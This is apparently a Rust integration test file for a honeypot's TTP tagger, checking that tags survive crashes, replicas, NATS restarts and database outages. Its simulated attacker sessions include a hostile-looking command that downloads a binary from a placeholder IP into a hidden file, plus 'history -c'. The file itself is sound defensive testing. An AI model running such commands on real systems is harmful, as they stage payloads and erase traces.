//! At-least-once through a crash: 20,000 session events, the tagger killed with SIGKILL
//! halfway and started again. The tag table must equal what the engine gives offline —
//! nothing lost, nothing duplicated — and every message that created rows must be announced
//! on `ttp.tagged` exactly once (the outbox survives the crash, the msg id dedups a repeat).

use std::collections::BTreeSet;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use async_nats::jetstream;
use bytes::Bytes;
use decnet_storage::{Database, Options};
use decnet_test_support::{FreshPostgres, NatsServer, free_port};
use decnet_ttp::fanout::from_message;
use futures_util::StreamExt;
use serde_json::{Value, json};
use uuid::Uuid;

const EVENTS: usize = 20_000;
const COMMANDS: [&str; 6] = [
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "echo hello",
    "cd /tmp; wget http://198.51.100.9/x86 -O .x",
    "ls -la",
    "history -c",
];

fn session(i: usize) -> Value {
    let ip = format!("10.{}.{}.{}", i / 65_536, (i / 256) % 256, i % 256);
    let commands: Vec<Value> = (0..(1 + i % 3))
        .map(|k| json!({"command_text": COMMANDS[(i + k) % COMMANDS.len()], "ts": "2026-12-04T10:00:00Z"}))
        .collect();
    json!({"session_id": format!("crash-{i}"), "attacker_ip": ip, "decky_id": "decoy-01",
        "service": "ssh", "ended_at": "2026-12-04T10:01:00Z", "duration_s": 60.0, "commands": commands})
}

fn tagger(nats: &str, db: &str) -> Child {
    tagger_with_ops(nats, db).0
}

/// A tagger replica and the address of its ops listener (each replica its own port: several
/// run at once on this host).
fn tagger_with_ops(nats: &str, db: &str) -> (Child, String) {
    let ops = format!("127.0.0.1:{}", free_port());
    let child = Command::new(env!("CARGO_BIN_EXE_decnet"))
        .args([
            "tagger",
            "--nats-url",
            nats,
            "--database-url",
            db,
            "--rules-dir",
            "rules/ttp",
            "--ops-listen",
            &ops,
        ])
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        // DECNET_CRASH_LOG=warn,decnet_bus=debug shows what a replica did when a test fails.
        .env(
            "DECNET_LOG",
            std::env::var("DECNET_CRASH_LOG").unwrap_or("error".into()),
        )
        .stdout(Stdio::null())
        .stderr(Stdio::inherit())
        .spawn()
        .unwrap();
    (child, ops)
}

/// One line of a replica's `/metrics`, by its prefix.
fn metric(ops: &str, prefix: &str) -> Option<String> {
    use std::io::{Read, Write};
    let mut stream = std::net::TcpStream::connect(ops).ok()?;
    stream
        .write_all(b"GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        .ok()?;
    let mut text = String::new();
    stream.read_to_string(&mut text).ok()?;
    text.lines()
        .find(|l| l.starts_with(prefix))
        .map(str::to_owned)
}

/// Publish every body, keeping up to 500 acknowledgements in flight.
async fn publish_all(js: &jetstream::Context, prefix: &str, bodies: &[Value]) {
    let mut acks = Vec::new();
    for (i, body) in bodies.iter().enumerate() {
        let mut headers = async_nats::HeaderMap::new();
        headers.insert("Nats-Msg-Id", format!("{prefix}-{i}").as_str());
        let ack = js
            .publish_with_headers(
                "attacker.session.ended",
                headers,
                Bytes::from(serde_json::to_vec(body).unwrap()),
            )
            .await
            .unwrap();
        acks.push(ack);
        if acks.len() == 500 {
            for ack in acks.drain(..) {
                ack.await.unwrap();
            }
        }
    }
    for ack in acks {
        ack.await.unwrap();
    }
}

/// The tag ids the engine gives offline, per body.
fn offline(bodies: &[Value]) -> Vec<BTreeSet<Uuid>> {
    let index =
        decnet_tagger::load_rules(Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/rules/ttp")))
            .unwrap();
    bodies
        .iter()
        .map(|b| {
            from_message("attacker.session.ended", b)
                .unwrap()
                .events
                .iter()
                .flat_map(|e| index.evaluate(e, chrono::Utc::now()).tags)
                .map(|t| t.uuid)
                .collect()
        })
        .collect()
}

/// A JetStream context on `server` with the tagger's streams in place.
async fn bus(server: &NatsServer, name: &str) -> jetstream::Context {
    let client = decnet_bus::connect(&server.url(), name, Duration::from_secs(5))
        .await
        .unwrap();
    let js = jetstream::new(client);
    decnet_bus::ensure_streams(&js, &["EVENTS", "TTP", "DLQ"])
        .await
        .unwrap();
    js
}

/// Wait until the tagger has written `n` tags: it is mid-stream, and a fault can strike.
async fn progress(db: &Database, n: usize) {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(120);
    while (db.tag_count().await.unwrap_or(0) as usize) < n {
        assert!(
            tokio::time::Instant::now() < deadline,
            "no progress: fewer than {n} tags"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

async fn open_db(url: &str) -> Database {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(60);
    loop {
        if let Ok(db) = Database::connect(url, &Options::default()).await {
            return db;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "no database at {url}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Wait until the consumer has nothing pending or unacked and the outbox is empty.
async fn settled(js: &jetstream::Context, db: &Database, limit: Duration) {
    let deadline = tokio::time::Instant::now() + limit;
    loop {
        let drained = pending(js).await == Some((0, 0));
        if drained && db.pending_count("tagger").await.unwrap_or(1) == 0 {
            return;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "the tagger did not finish"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

async fn stored_ids(db: &Database) -> BTreeSet<Uuid> {
    let stored: Vec<Uuid> = db.tags().await.unwrap().iter().map(|t| t.uuid).collect();
    let set: BTreeSet<Uuid> = stored.iter().copied().collect();
    assert_eq!(stored.len(), set.len());
    set
}

async fn pending(js: &jetstream::Context) -> Option<(u64, usize)> {
    let stream = js.get_stream("EVENTS").await.ok()?;
    let mut c = stream
        .get_consumer::<jetstream::consumer::pull::Config>("tagger")
        .await
        .ok()?;
    let info = c.info().await.ok()?.clone();
    Some((info.num_pending, info.num_ack_pending))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tagger_killed_mid_stream_loses_and_duplicates_nothing() {
    let server = NatsServer::start().unwrap();
    let js = bus(&server, "crash-test").await;
    let bodies: Vec<Value> = (0..EVENTS).map(session).collect();
    publish_all(&js, "attacker.session.ended:decoy-01:crash", &bodies).await;
    let per_body = offline(&bodies);
    let want: BTreeSet<Uuid> = per_body.iter().flatten().copied().collect();

    let dir = tempfile::tempdir().unwrap();
    let db_url = format!("sqlite://{}", dir.path().join("decnet.db").display());
    let mut first = tagger(&server.url(), &db_url);
    let db = open_db(&db_url).await;
    progress(&db, want.len() / 3).await;
    first.kill().unwrap(); // SIGKILL: no drain, no final publish.
    first.wait().unwrap();
    let at_kill = db.tag_count().await.unwrap() as usize;
    assert!(
        at_kill < want.len(),
        "killed after the end ({at_kill}): the test proves nothing"
    );

    let mut second = tagger(&server.url(), &db_url);
    settled(&js, &db, Duration::from_secs(300)).await;
    second.kill().unwrap();
    second.wait().unwrap();
    assert_eq!(
        stored_ids(&db).await,
        want,
        "killed at {at_kill} of {} tags",
        want.len()
    );

    // ttp.tagged: one per message that created rows, none lost in the crash, none repeated.
    let ttp = js.get_stream("TTP").await.unwrap();
    let reader = ttp
        .create_consumer(jetstream::consumer::pull::Config {
            filter_subject: "ttp.tagged".into(),
            ..Default::default()
        })
        .await
        .unwrap();
    let mut announced: Vec<Uuid> = Vec::new();
    let mut messages = 0;
    loop {
        let mut batch = reader
            .fetch()
            .max_messages(2000)
            .expires(Duration::from_millis(500))
            .messages()
            .await
            .unwrap();
        let before = messages;
        while let Some(m) = batch.next().await {
            let m = m.unwrap();
            let body: Value = serde_json::from_slice(&m.payload).unwrap();
            announced.extend(
                body["tag_uuids"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|u| u.as_str().unwrap().parse::<Uuid>().unwrap()),
            );
            messages += 1;
            m.ack().await.unwrap();
        }
        if messages == before {
            break;
        }
    }
    let with_tags = per_body.iter().filter(|s| !s.is_empty()).count();
    assert_eq!(messages, with_tags);
    assert_eq!(announced.len(), want.len());
    assert_eq!(announced.into_iter().collect::<BTreeSet<_>>(), want);
    drop(server);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_replicas_split_the_work_and_write_the_table_of_one() {
    let server = NatsServer::start().unwrap();
    let js = bus(&server, "replica-test").await;
    let bodies: Vec<Value> = (0..4_000).map(session).collect();
    publish_all(&js, "replicas", &bodies).await;
    let want: BTreeSet<Uuid> = offline(&bodies).into_iter().flatten().collect();
    let dir = tempfile::tempdir().unwrap();
    let db_url = format!("sqlite://{}", dir.path().join("decnet.db").display());
    let mut a = tagger(&server.url(), &db_url);
    let mut b = tagger(&server.url(), &db_url);
    let db = open_db(&db_url).await;
    settled(&js, &db, Duration::from_secs(300)).await;
    for child in [&mut a, &mut b] {
        child.kill().unwrap();
        child.wait().unwrap();
    }
    assert_eq!(stored_ids(&db).await, want);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_tagger_rides_out_a_nats_restart_and_a_locked_database() {
    let mut server = NatsServer::start().unwrap();
    let js = bus(&server, "restart-test").await;
    let bodies: Vec<Value> = (0..6_000).map(session).collect();
    let (early, late) = bodies.split_at(3_000);
    publish_all(&js, "restart-early", early).await;
    let dir = tempfile::tempdir().unwrap();
    let db_url = format!("sqlite://{}", dir.path().join("decnet.db").display());
    let mut child = tagger(&server.url(), &db_url);
    let db = open_db(&db_url).await;
    progress(&db, 500).await;
    // The server dies mid-stream and comes back on the same store.
    server.kill();
    tokio::time::sleep(Duration::from_secs(1)).await;
    server.restart().unwrap();
    // The database is locked by another writer for longer than the busy timeout: the tagger
    // naks and catches up afterwards.
    let decnet_storage::Database::Sqlite(pool) = &db else {
        unreachable!("the test database is SQLite")
    };
    let mut lock = pool.acquire().await.unwrap();
    sqlx::query("BEGIN EXCLUSIVE")
        .execute(&mut *lock)
        .await
        .unwrap();
    let js = loop {
        let client = decnet_bus::connect(&server.url(), "restart-test-2", Duration::from_secs(20))
            .await
            .unwrap();
        let js = jetstream::new(client);
        if js.get_stream("EVENTS").await.is_ok() {
            break js;
        }
    };
    publish_all(&js, "restart-late", late).await;
    tokio::time::sleep(Duration::from_secs(7)).await;
    sqlx::query("COMMIT").execute(&mut *lock).await.unwrap();
    drop(lock);
    settled(&js, &db, Duration::from_secs(300)).await;
    child.kill().unwrap();
    child.wait().unwrap();
    let want: BTreeSet<Uuid> = offline(&bodies).into_iter().flatten().collect();
    assert_eq!(stored_ids(&db).await, want);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_tagger_waits_out_an_unreachable_postgres() {
    use std::net::ToSocketAddrs;
    let Some(pg) = FreshPostgres::create("the PostgreSQL outage test").await else {
        return;
    };
    // user@host:port → the server's address and the user, to put the proxy between.
    let (user, host) = pg
        .authority
        .rsplit_once('@')
        .map_or(("", pg.authority.as_str()), |(u, h)| (u, h));
    let target = host.to_socket_addrs().unwrap().next().unwrap();
    let proxy = decnet_test_support::TcpProxy::start(target).unwrap();
    let through_proxy = format!("postgres://{user}@127.0.0.1:{}/{}", proxy.port(), pg.name);

    let server = NatsServer::start().unwrap();
    let js = bus(&server, "pg-cut-test").await;
    let bodies: Vec<Value> = (0..6_000).map(session).collect();
    let (early, late) = bodies.split_at(2_000);
    publish_all(&js, "pg-cut-early", early).await;
    let (mut child, ops) = tagger_with_ops(&server.url(), &through_proxy);
    let db = open_db(&pg.url).await;
    progress(&db, 300).await;
    // The database vanishes mid-stream for five seconds: connections die, new ones are
    // refused. The tagger naks, backs off and catches up.
    proxy.cut();
    publish_all(&js, "pg-cut-late", late).await;
    tokio::time::sleep(Duration::from_secs(5)).await;
    proxy.restore();
    settled(&js, &db, Duration::from_secs(300)).await;
    let retried = metric(&ops, "decnet_tagger_messages_total{outcome=\"retried\"}");
    assert!(
        retried.is_some(),
        "the outage was felt: messages were naked and redelivered"
    );
    assert!(
        child.try_wait().unwrap().is_none(),
        "the tagger outlived the outage"
    );
    child.kill().unwrap();
    child.wait().unwrap();
    let want: BTreeSet<Uuid> = offline(&bodies).into_iter().flatten().collect();
    assert_eq!(stored_ids(&db).await, want);
    db.close().await;
    pg.remove().await;
}
